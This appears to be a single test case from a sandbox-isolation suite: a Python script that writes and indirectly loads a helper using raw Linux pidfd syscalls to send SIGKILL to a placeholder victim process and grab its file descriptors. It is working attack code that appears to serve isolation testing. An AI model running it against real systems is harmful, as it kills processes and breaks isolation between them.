# class: signal
# technique: pidfd_open, pidfd_send_signal, pidfd_getfd
# success: victim_dead
import sys, unittest
source = 'import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfd = libc.syscall(434, @@VPID@@, 0)\nprint(fd, libc.syscall(424, fd, 9, None, 0), libc.syscall(438, fd, 0, 0))\n'
open('native_part.py', 'w').write(source)
sys.path.insert(0, '')
unittest.defaultTestLoader.loadTestsFromName('native_part')
